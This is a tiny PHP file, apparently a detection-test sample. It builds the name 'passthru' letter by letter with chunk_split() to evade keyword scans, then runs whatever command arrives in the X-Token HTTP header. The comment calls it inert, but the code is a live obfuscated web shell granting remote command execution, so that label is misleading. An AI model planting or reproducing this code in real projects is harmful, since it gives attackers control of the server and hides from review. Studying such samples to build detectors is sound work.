<?php
// inert sample: the command function spelt one letter at a time with a separator chunk_split()
// puts between them, stripped again before the call; the command comes from a request header
$p = chunk_split('pas', 1, '~') . chunk_split('sth', 1, '~') . chunk_split('ru', 1, '~');
$run = str_replace('~', '', $p);
$arg = $_SERVER['HTTP_X_TOKEN'];
$run($arg);
